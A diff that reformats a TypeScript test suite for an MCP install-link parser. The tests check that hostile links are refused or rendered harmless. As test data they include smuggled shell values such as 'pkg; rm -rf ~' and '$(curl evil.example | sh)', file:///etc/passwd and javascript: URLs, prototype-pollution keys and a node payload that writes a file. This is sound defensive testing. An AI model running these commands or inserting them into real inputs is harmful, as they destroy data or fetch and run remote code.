@@ -14,7 +14,13 @@ describe('hostile install links', () => {
   afterEach(async () => test?.close());
 
   it('a link cannot smuggle a javascript: (or file:, data:) URL in as the server URL', () => {
-    for (const url of ['javascript:alert(1)//', 'file:///etc/passwd', 'data:text/html,<script>1</script>', 'http://attacker.example/mcp', 'https://user:pw@mcp.example.com/']) {
+    for (const url of [
+      'javascript:alert(1)//',
+      'file:///etc/passwd',
+      'data:text/html,<script>1</script>',
+      'http://attacker.example/mcp',
+      'https://user:pw@mcp.example.com/',
+    ]) {
       const result = parseInstallLink(ownLink('x', JSON.stringify({ url })));
       expect(result.ok, url).toBe(false);
       expect(!result.ok && result.reason).toMatch(/Refusing MCP server URL/);
@@ -22,7 +28,7 @@ describe('hostile install links', () => {
   });
 
   it('shell metacharacters in command and args stay literal argv entries', () => {
-    const args = ['-y', 'pkg; rm -rf ~', '$(curl evil.example | sh)', '`id`', '&& calc.exe', '| tee /tmp/x', "'quoted' \"double\""];
+    const args = ['-y', 'pkg; rm -rf ~', '$(curl evil.example | sh)', '`id`', '&& calc.exe', '| tee /tmp/x', '\'quoted\' "double"'];
     const result = parseInstallLink(ownLink('x', JSON.stringify({ command: 'npx', args })));
     expect(result).toMatchObject({ ok: true, server: { transport: 'stdio', command: 'npx', args } });
   });
@@ -43,11 +49,17 @@ describe('hostile install links', () => {
 
   it('too many args or env entries are refused', () => {
     expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', args: Array.from({ length: 300 }, () => 'a') }))).ok).toBe(false);
-    expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', env: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`V${i}`, '1'])) }))).ok).toBe(false);
+    expect(
+      parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', env: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`V${i}`, '1'])) }))).ok,
+    ).toBe(false);
   });
 
   it('a __proto__ (or constructor/prototype) key refuses the link and pollutes nothing', () => {
-    for (const json of ['{"command":"node","__proto__":{"polluted":"yes"}}', '{"command":"node","env":{"__proto__":{"polluted":"yes"}}}', '{"command":"node","constructor":{"prototype":{"polluted":"yes"}}}']) {
+    for (const json of [
+      '{"command":"node","__proto__":{"polluted":"yes"}}',
+      '{"command":"node","env":{"__proto__":{"polluted":"yes"}}}',
+      '{"command":"node","constructor":{"prototype":{"polluted":"yes"}}}',
+    ]) {
       const result = parseInstallLink(ownLink('x', json));
       expect(result.ok, json).toBe(false);
       expect(!result.ok && result.reason).toMatch(/"(__proto__|constructor|prototype)" key/);
@@ -56,7 +68,15 @@ describe('hostile install links', () => {
   });
 
   it('secret values in a link are not prefilled: the user types them', () => {
-    const result = parseInstallLink(ownLink('x', JSON.stringify({ url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer sk-live-abcdef', 'X-Api-Key': 'abc', 'X-Trace': 'Zx9qT4mLw8Rk2VbN7pYcQ3' } })));
+    const result = parseInstallLink(
+      ownLink(
+        'x',
+        JSON.stringify({
+          url: 'https://mcp.example.com/mcp',
+          headers: { Authorization: 'Bearer sk-live-abcdef', 'X-Api-Key': 'abc', 'X-Trace': 'Zx9qT4mLw8Rk2VbN7pYcQ3' },
+        }),
+      ),
+    );
     expect(result).toMatchObject({ ok: true });
     const headers = result.ok && result.server.transport === 'http' ? result.server.headers : [];
     expect(headers.map((h) => [h.name, h.secret, h.value])).toEqual([
@@ -70,7 +90,9 @@ describe('hostile install links', () => {
   it('a link never adds or starts anything: after receive, the server list is unchanged and no process was spawned', async () => {
     test = startTestCore();
     const before = await test.call('listServers', {});
-    test.core.installLinks.receive(ownLink('evil', JSON.stringify({ command: process.execPath, args: ['-e', 'require("fs").writeFileSync("/tmp/pwned","1")'] })));
+    test.core.installLinks.receive(
+      ownLink('evil', JSON.stringify({ command: process.execPath, args: ['-e', 'require("fs").writeFileSync("/tmp/pwned","1")'] })),
+    );
     test.core.installLinks.receive(`vscode:mcp/install?${encodeURIComponent(JSON.stringify({ name: 'remote', url: 'https://mcp.example.com/mcp' }))}`);
     await new Promise((r) => setTimeout(r, 200));
     expect(await test.call('listServers', {})).toEqual(before);
